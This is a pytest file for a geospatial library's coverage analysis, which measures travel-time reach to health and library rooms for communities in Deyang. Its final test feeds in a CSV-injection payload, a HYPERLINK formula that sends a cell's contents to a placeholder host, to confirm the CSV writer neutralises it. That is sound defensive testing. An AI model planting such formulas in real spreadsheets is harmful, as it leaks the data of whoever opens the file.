"""Tests of deyang_geo.analysis.coverage on a hand-computed example."""

from __future__ import annotations

import math
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from deyang_geo import InputError
from deyang_geo.analysis.coverage import CoverageResult, compute_coverage, coverage_column

NAN = float("nan")

# Communities A..D; D has no population (its units are weighed equally).
COMMUNITIES = gpd.GeoDataFrame(
    {
        "id": ["A", "B", "C", "D"],
        "name": ["甲社区", "乙村", "丙社区", "丁村"],
        "kind": ["urban", "rural", "urban", "rural"],
        "township": ["T1", "T1", "T2", "T2"],
        "division": ["旌阳区", "旌阳区", "罗江区", "罗江区"],
        "population": [100, 100, 100, 0],
    },
    geometry=[shapely.box(i * 1000, 0, i * 1000 + 500, 500) for i in range(4)],
    crs="EPSG:32648",
)
UNITS = pd.DataFrame({
    "unit_id": ["A#1", "A#2", "B#1", "C#1", "C#2", "C#3", "D#1", "D#2"],
    "community_id": ["A", "A", "B", "C", "C", "C", "D", "D"],
    "population": [60.0, 40.0, 100.0, 30.0, 30.0, 40.0, 0.0, 0.0],
})
ACCESS = pd.DataFrame(
    [
        ("A#1", "health_room", 4.0, "h1"), ("A#2", "health_room", 12.0, "h1"),
        ("B#1", "health_room", NAN, None), ("C#1", "health_room", 3.0, "h2"),
        ("C#2", "health_room", 9.0, "h2"), ("C#3", "health_room", 16.0, "h2"),
        ("D#1", "health_room", 2.0, "h3"), ("D#2", "health_room", NAN, None),
        # A#2 and the D units have no library row: unreachable
        ("A#1", "library_room", 20.0, "l1"), ("B#1", "library_room", 14.0, "l1"),
        ("C#1", "library_room", 1.0, "l2"), ("C#2", "library_room", 1.0, "l2"),
        ("C#3", "library_room", 1.0, "l2"),
    ],
    columns=["demand_id", "category", "minutes", "facility_id"],
)


@pytest.fixture(scope="module")
def result() -> CoverageResult:
    return compute_coverage(ACCESS, UNITS, COMMUNITIES)


def _row(table: pd.DataFrame, **keys: str) -> pd.Series:
    mask = np.ones(len(table), dtype=bool)
    for k, v in keys.items():
        mask &= (table[k] == v).to_numpy()
    assert mask.sum() == 1, keys
    return table[mask].iloc[0]


def test_coverage_column_names() -> None:
    assert coverage_column("covered_share", 15) == "covered_share_15min"
    assert coverage_column("covered_population", 7.5) == "covered_population_7.5min"
    with pytest.raises(ValueError, match="unknown coverage quantity"):
        coverage_column("share", 5)


def test_parameters_default_from_settings(result: CoverageResult) -> None:
    assert result.breaks_minutes == (5.0, 10.0, 15.0)
    assert result.threshold_minutes == 15.0
    assert (result.covered_share, result.partly_covered_share) == (0.8, 0.2)
    assert result.categories == ("health_room", "library_room")


EXPECTED_COMMUNITIES = [
    # id, category, (share 5, 10, 15), (class 5, 10, 15), covered population 15, median minutes
    ("A", "health_room", (0.6, 0.6, 1.0), ("partly", "partly", "covered"), 100.0, 4.0),
    ("B", "health_room", (0.0, 0.0, 0.0), ("outside",) * 3, 0.0, NAN),
    ("C", "health_room", (0.3, 0.6, 0.6), ("partly",) * 3, 60.0, 9.0),
    ("D", "health_room", (0.5, 0.5, 0.5), ("partly",) * 3, 0.0, 2.0),
    ("A", "library_room", (0.0, 0.0, 0.0), ("outside",) * 3, 0.0, 20.0),
    ("B", "library_room", (0.0, 0.0, 1.0), ("outside", "outside", "covered"), 100.0, 14.0),
    ("C", "library_room", (1.0, 1.0, 1.0), ("covered",) * 3, 100.0, 1.0),
    ("D", "library_room", (0.0, 0.0, 0.0), ("outside",) * 3, 0.0, NAN),
]


@pytest.mark.parametrize(
    ("cid", "category", "shares", "classes", "covered15", "median"), EXPECTED_COMMUNITIES)
def test_community_table(result: CoverageResult, cid: str, category: str,
                         shares: tuple[float, ...], classes: tuple[str, ...], covered15: float,
                         median: float) -> None:
    row = _row(result.communities, community_id=cid, category=category)
    for b, share, cls in zip((5, 10, 15), shares, classes, strict=True):
        assert row[coverage_column("covered_share", b)] == pytest.approx(share)
        assert row[coverage_column("class", b)] == cls
    assert row["class"] == classes[-1]
    assert row[coverage_column("covered_population", 15)] == covered15
    if math.isnan(median):
        assert math.isnan(row["minutes"])
    else:
        assert row["minutes"] == median


def test_community_table_order_and_attributes(result: CoverageResult) -> None:
    table = result.communities
    assert list(table["community_id"]) == ["A", "A", "B", "B", "C", "C", "D", "D"]
    assert list(table["category"][:2]) == ["health_room", "library_room"]
    assert list(table["population"][::2]) == [100.0, 100.0, 100.0, 0.0]
    assert list(table["units"][::2]) == [2, 1, 3, 2]
    assert _row(table, community_id="A", category="health_room")["name"] == "甲社区"


def test_units_table(result: CoverageResult) -> None:
    units = result.units
    assert len(units) == 8 * 2
    row = _row(units, demand_id="A#2", category="library_room")
    assert math.isnan(row["minutes"])
    assert pd.isna(row["facility_id"])
    assert not row["covered_15min"]
    row = _row(units, demand_id="C#3", category="health_room")
    assert (row["facility_id"], row["covered_10min"], row["covered_15min"]) == ("h2", False, False)


def test_township_aggregates(result: CoverageResult) -> None:
    row = _row(result.townships, division="旌阳区", township="T1", kind="all",
               category="health_room")
    assert (row["communities"], row["population"]) == (2, 200.0)
    assert row["covered_population_15min"] == 100.0
    assert row["covered_share_15min"] == 0.5
    assert (row["covered_communities_15min"], row["partly_covered_communities_15min"],
            row["outside_communities_15min"]) == (1, 0, 1)
    assert row["covered_communities_share_15min"] == 0.5
    row = _row(result.townships, division="旌阳区", township="T1", kind="urban",
               category="health_room")
    assert (row["communities"], row["covered_share_5min"]) == (1, 0.6)
    # kinds listed: all first, then urban, then rural
    kinds = result.townships[(result.townships["township"] == "T2")
                             & (result.townships["category"] == "health_room")]["kind"]
    assert list(kinds) == ["all", "urban", "rural"]


def test_division_and_study_area_aggregates(result: CoverageResult) -> None:
    row = _row(result.divisions, division="罗江区", kind="rural", category="health_room")
    # D has no population: the share is undefined, its class still counts
    assert row["population"] == 0.0
    assert math.isnan(row["covered_share_15min"])
    assert row["partly_covered_communities_15min"] == 1
    row = _row(result.study_area, kind="all", category="health_room")
    assert (row["communities"], row["population"]) == (4, 300.0)
    assert row["covered_population_5min"] == 90.0
    assert row["covered_share_5min"] == pytest.approx(0.3)
    assert (row["covered_communities_5min"], row["partly_covered_communities_5min"],
            row["outside_communities_5min"]) == (0, 3, 1)
    row = _row(result.study_area, kind="urban", category="library_room")
    assert row["covered_share_15min"] == 0.5
    assert (row["covered_communities_15min"], row["outside_communities_15min"]) == (1, 1)
    assert "division" not in result.study_area.columns


def test_outside_sorted_by_uncovered_population(result: CoverageResult) -> None:
    outside = result.outside
    assert isinstance(outside, gpd.GeoDataFrame)
    assert list(zip(outside["community_id"], outside["category"], strict=True)) == [
        ("A", "library_room"), ("B", "health_room"), ("D", "library_room")]
    assert list(outside["uncovered_population"]) == [100.0, 100.0, 0.0]
    assert outside.crs == COMMUNITIES.crs
    assert outside.geometry.iloc[1].equals(COMMUNITIES.geometry.iloc[1])


def test_thresholds_and_breaks_are_settable() -> None:
    res = compute_coverage(ACCESS, UNITS, COMMUNITIES, breaks_minutes=[10], threshold_minutes=12,
                           covered_share=0.5, partly_covered_share=0.1,
                           categories=["health_room"])
    assert res.breaks_minutes == (10.0, 12.0)
    assert res.categories == ("health_room",)
    row = _row(res.communities, community_id="C", category="health_room")
    assert (row["covered_share_12min"], row["class"]) == (pytest.approx(0.6), "covered")
    row = _row(res.communities, community_id="A", category="health_room")
    assert row["class_12min"] == "covered"  # 12.0 <= 12: inclusive
    assert "covered_share_15min" not in res.communities.columns


def test_inputs_not_mutated() -> None:
    access, units, comm = ACCESS.copy(), UNITS.copy(), COMMUNITIES.copy()
    compute_coverage(access, units, comm)
    pd.testing.assert_frame_equal(access, ACCESS)
    pd.testing.assert_frame_equal(units, UNITS)
    pd.testing.assert_frame_equal(comm, COMMUNITIES)


def test_units_without_community_column_are_communities() -> None:
    units = pd.DataFrame({"id": ["A", "B"], "population": [10, 30]})
    access = pd.DataFrame({"demand_id": ["A", "B"], "category": ["x", "x"],
                           "minutes": [3.0, 30.0], "facility_id": ["f", "f"]})
    res = compute_coverage(access, units, units)
    assert list(res.communities["class"]) == ["covered", "outside"]
    assert res.study_area["covered_share_15min"].iloc[0] == 0.25
    assert list(res.townships["township"]) == [""]


def test_bad_inputs_are_reported_together() -> None:
    access = pd.concat([ACCESS, pd.DataFrame({
        "demand_id": ["Z#9", "A#1"], "category": ["health_room", "health_room"],
        "minutes": [1.0, 2.0], "facility_id": ["h", "h"]})], ignore_index=True)
    with pytest.raises(InputError) as info:
        compute_coverage(access, UNITS, COMMUNITIES)
    message = str(info.value)
    assert "3 problems" in message
    assert "row 14, column 'demand_id': demand id 'Z#9' is not among the demand units" in message
    # both rows of the duplicated pair are named
    assert "row 1: demand unit 'A#1' has several rows for category 'health_room'" in message
    assert "row 15: demand unit 'A#1' has several rows" in message
    units = UNITS.assign(community_id=["A", "A", "B", "C", "C", "C", "D", "X"])
    with pytest.raises(InputError, match="'X' is not among the communities"):
        compute_coverage(ACCESS, units, COMMUNITIES)
    with pytest.raises(InputError, match="partly_covered_share <= covered_share"):
        compute_coverage(ACCESS, UNITS, COMMUNITIES, covered_share=0.1, partly_covered_share=0.5)
    with pytest.raises(InputError, match="no 'minutes' column"):
        compute_coverage(ACCESS.drop(columns="minutes"), UNITS, COMMUNITIES)


def test_write_csv_with_bom(result: CoverageResult, tmp_path: Path) -> None:
    written = result.write(tmp_path / "out")
    names = sorted(p.name for p in written)
    assert names == sorted(["coverage.csv", "coverage_townships.csv", "coverage_divisions.csv",
                            "coverage_study_area.csv", "outside_reach.csv",
                            "coverage_parameters.csv"])
    raw = (tmp_path / "out" / "coverage.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = pd.read_csv(tmp_path / "out" / "coverage.csv", encoding="utf-8-sig")
    assert table["name"].iloc[0] == "甲社区"
    assert list(table["class"]) == list(result.communities["class"])
    outside = pd.read_csv(tmp_path / "out" / "outside_reach.csv", encoding="utf-8-sig")
    assert list(outside["community_id"]) == ["A", "B", "D"]
    assert outside["lon"].between(100, 101).all()  # west of the UTM 48N central meridian
    params = pd.read_csv(tmp_path / "out" / "coverage_parameters.csv", encoding="utf-8-sig")
    assert dict(zip(params["parameter"], params["value"], strict=True))[
        "breaks_minutes"] == "5,10,15"
    assert not list((tmp_path / "out").glob(".*tmp*"))


def _naive_median(pairs: list[tuple[float, float]]) -> float:
    """Lower weighted median by brute force: the smallest value whose weight share reaches 1/2."""
    if sum(w for _, w in pairs) == 0:
        pairs = [(m, 1.0) for m, _ in pairs]
    total = sum(w for _, w in pairs)
    for value, _ in sorted(pairs, key=lambda p: p[0]):
        if sum(w for m, w in pairs if m <= value) >= total / 2:
            return value
    return math.inf


@settings(max_examples=25, deadline=None)
@given(
    data=st.lists(  # per community: units as (population, minutes per category)
        st.lists(st.tuples(st.integers(0, 50),
                           st.lists(st.one_of(st.none(), st.integers(0, 40)), min_size=2,
                                    max_size=2)),
                 min_size=1, max_size=5),
        min_size=1, max_size=6),
    kinds=st.lists(st.sampled_from(["urban", "rural"]), min_size=6, max_size=6),
)
def test_against_brute_force(data: list[list[tuple[int, list[int | None]]]],
                             kinds: list[str]) -> None:
    cats = ["a", "b"]
    units, access = [], []
    for c, members in enumerate(data):
        for u, (pop, minutes) in enumerate(members):
            units.append({"unit_id": f"{c}#{u}", "community_id": f"{c}", "population": pop})
            access.extend({"demand_id": f"{c}#{u}", "category": cat,
                           "minutes": NAN if m is None else m / 2, "facility_id": "f"}
                          for cat, m in zip(cats, minutes, strict=True))
    comm = pd.DataFrame({"id": [str(c) for c in range(len(data))],
                         "kind": kinds[:len(data)], "township": "t", "division": "d"})
    res = compute_coverage(pd.DataFrame(access), pd.DataFrame(units), comm)
    for c, members in enumerate(data):
        for j, cat in enumerate(cats):
            row = _row(res.communities, community_id=str(c), category=cat)
            pop = sum(p for p, _ in members)
            times = [math.inf if m[j] is None else m[j] / 2 for _, m in members]
            weights = [float(p) if pop > 0 else 1.0 for p, _ in members]
            median = _naive_median(list(zip(times, weights, strict=True)))
            assert row["minutes"] == median or (math.isinf(median) and math.isnan(row["minutes"]))
            for b in (5, 10, 15):
                covered = sum(p for (p, _), t in zip(members, times, strict=True) if t <= b)
                share = (covered / pop if pop else
                         sum(t <= b for t in times) / len(times))
                assert row[coverage_column("covered_population", b)] == covered
                assert row[coverage_column("covered_share", b)] == pytest.approx(share)
                expected = ("covered" if share >= 0.8 else
                            "partly" if share >= 0.2 else "outside")
                assert row[coverage_column("class", b)] == expected
    for kind in ("all", "urban", "rural"):
        mine = res.communities if kind == "all" else res.communities[
            res.communities["kind"] == kind]
        rows = res.study_area[res.study_area["kind"] == kind]
        if mine.empty:
            assert rows.empty
            continue
        for cat in cats:
            part = mine[mine["category"] == cat]
            row = _row(rows, category=cat)
            assert row["covered_population_15min"] == part["covered_population_15min"].sum()
            assert row["covered_communities_15min"] == (part["class_15min"] == "covered").sum()
            assert row["communities"] == len(part)


def _reference_aggregate(communities: pd.DataFrame, keys: list[str],
                         breaks: tuple[float, ...]) -> pd.DataFrame:
    """Township/division/study-area table by a plain pandas groupby on the text columns."""
    suffixes = ["", *(f"_{b:g}min" for b in breaks)]
    frames = []
    kinds = [k for k in ("urban", "rural") if (communities["kind"] == k).any()]
    kinds += sorted(set(communities["kind"]) - {"urban", "rural", ""})
    for kind in ["all", *kinds]:
        part = communities if kind == "all" else communities[communities["kind"] == kind]
        work = part[[*keys, "category", "population"]].assign(communities=1)
        for s in suffixes:
            work[f"covered_population{s}"] = part[f"covered_population{s}"]
            for quantity, value in (("covered_communities", "covered"),
                                    ("partly_covered_communities", "partly"),
                                    ("outside_communities", "outside")):
                work[f"{quantity}{s}"] = (part[f"class{s}"] == value).astype(np.int64)
        summed = work.groupby([*keys, "category"], sort=True).sum().reset_index()
        summed.insert(len(keys), "kind", kind)
        frames.append(summed)
    table = pd.concat(frames, ignore_index=True)
    if keys:
        table = table.sort_values(keys, kind="stable").reset_index(drop=True)
    for s in suffixes:
        table[f"covered_share{s}"] = np.where(
            table["population"] > 0,
            table[f"covered_population{s}"] / table["population"].where(
                table["population"] > 0, 1.0), np.nan)
        table[f"covered_communities_share{s}"] = (
            table[f"covered_communities{s}"] / table["communities"])
    return table


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_tables_against_a_pandas_groupby_reference(seed: int) -> None:
    """Random units, kinds (with blanks and unknown kinds), unsorted categories, thresholds."""
    rng = np.random.default_rng(seed)
    n_units, n_comm = 400, 60
    cats = ["health_room", "elderly_daycare", "library_room"]
    unit_comm = rng.integers(0, n_comm, n_units)
    population = rng.uniform(0, 300, n_units).round(1)
    population[rng.random(n_units) < 0.1] = 0.0
    population[np.isin(unit_comm, [3, 4])] = 0.0  # communities without population
    units = pd.DataFrame({"unit_id": [f"u{i}" for i in range(n_units)],
                          "community_id": [f"c{c}" for c in unit_comm],
                          "population": population})
    pairs = [(u, c) for u in range(n_units) for c in cats if rng.random() > 0.05]
    minutes = rng.uniform(0, 30, len(pairs))
    minutes[rng.random(len(pairs)) < 0.1] = np.nan
    access = pd.DataFrame({"demand_id": [f"u{u}" for u, _ in pairs],
                           "category": [c for _, c in pairs], "minutes": minutes,
                           "facility_id": "f"})
    comm = pd.DataFrame({
        "id": [f"c{i}" for i in range(n_comm)],
        "kind": rng.choice(["urban", "rural", "", "suburb"], n_comm),
        "township": rng.choice(["乙镇", "甲镇", "丙街道", "a"], n_comm),
        "division": rng.choice(["旌阳区", "罗江区", "b"], n_comm),
    })
    comm = comm[comm["id"].isin(units["community_id"])].reset_index(drop=True)
    thresholds = {"elderly_daycare": {"urban": 5.0, "rural": 12.0}}
    res = compute_coverage(access, units, comm, breaks_minutes=[5, 10, 15],
                           threshold_minutes=10.0, categories=cats,
                           thresholds_minutes=thresholds)
    breaks = res.breaks_minutes
    # community table from the unit table by a groupby
    unit_table = res.units.astype({"community_id": str, "category": str})
    unit_table["weight"] = unit_table["population"].where(
        unit_table.groupby("community_id")["population"].transform("sum") > 0, 1.0)
    for s in ["", *(f"_{b:g}min" for b in breaks)]:
        covered = unit_table[f"covered{s}"]
        grouped = unit_table.assign(pop=unit_table["population"] * covered,
                                    w=unit_table["weight"] * covered).groupby(
            ["community_id", "category"])[["pop", "w", "weight"]].sum()
        mine = res.communities.set_index(["community_id", "category"]).loc[grouped.index]
        assert np.allclose(mine[f"covered_population{s}"], grouped["pop"], rtol=1e-12)
        share = grouped["w"] / grouped["weight"]
        assert np.allclose(mine[f"covered_share{s}"], share, rtol=1e-12, equal_nan=True)
        expected = np.select([share >= 0.8, share >= 0.2], ["covered", "partly"], "outside")
        assert list(mine[f"class{s}"]) == list(expected)
    for keys, table in ((["division", "township"], res.townships),
                        (["division"], res.divisions), ([], res.study_area)):
        text = res.communities.astype(  # its text is categorical: compared as plain text
            dict.fromkeys(("division", "township", "kind", "category"), str))
        reference = _reference_aggregate(text, keys, breaks)[table.columns]
        pd.testing.assert_frame_equal(table, reference, check_dtype=False,
                                      check_exact=False, rtol=1e-12)
    outside = res.communities[res.communities["class"] == "outside"]
    assert len(res.outside) == len(outside)


def test_chinese_tables_round_once(result: CoverageResult, tmp_path: Path) -> None:
    # 0.842547 is 84.3 %, not 84.2 % (0.8425 -> 84.25 -> 84.2); 430081.496 people are 430081
    import dataclasses

    area = result.study_area.copy()
    area["covered_share"] = 0.842547
    area["covered_population"] = 430081.496
    dataclasses.replace(result, study_area=area).write(tmp_path, lang="both")
    raw = pd.read_csv(tmp_path / "coverage_study_area.csv", encoding="utf-8-sig", dtype=str)
    share = next(c for c in raw.columns if c.endswith(" covered_share"))
    people = next(c for c in raw.columns if c.endswith(" covered_population"))
    assert set(raw[share]) == {"84.3"}
    assert set(raw[people]) == {"430081"}


def test_text_columns_are_compact_and_written_safe(tmp_path: Path) -> None:
    """Issue 13: the per-pair tables keep their text as categoricals (1 M communities in a few
    GB); the values are the same, and every CSV cell that Excel would run is neutralised."""
    hostile = '=HYPERLINK("http://x/?leak="&A1,"click me")'
    communities = COMMUNITIES.assign(name=[hostile, "乙村", "+86", "丁村"])
    units = UNITS.assign(unit_id=UNITS["unit_id"].where(UNITS["unit_id"] != "A#1", "@A1"))
    access = ACCESS.assign(demand_id=ACCESS["demand_id"].where(ACCESS["demand_id"] != "A#1",
                                                                "@A1"))
    res = compute_coverage(access, units, communities)
    for table in (res.communities, res.outside):
        for col in ("community_id", "name", "kind", "township", "division", "category"):
            assert isinstance(table[col].dtype, pd.CategoricalDtype), col
    assert isinstance(res.communities["class"].dtype, pd.CategoricalDtype)
    assert res.communities["name"].tolist()[::2] == [hostile, "乙村", "+86", "丁村"]
    plain = compute_coverage(ACCESS, UNITS, COMMUNITIES).communities
    for col in ("class", "class_5min", "category", "community_id", "division"):
        assert res.communities[col].tolist() == plain[col].tolist()
    assert set(res.communities["class"]) == {"covered", "partly", "outside"}
    res.write(tmp_path / "out", include_units=True)
    for path in sorted((tmp_path / "out").glob("*.csv")):
        table = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        cells = table.to_numpy().ravel().tolist()
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], path.name
    units_csv = pd.read_csv(tmp_path / "out" / "coverage_units.csv", encoding="utf-8-sig")
    assert units_csv["demand_id"].iloc[0] == "'@A1"
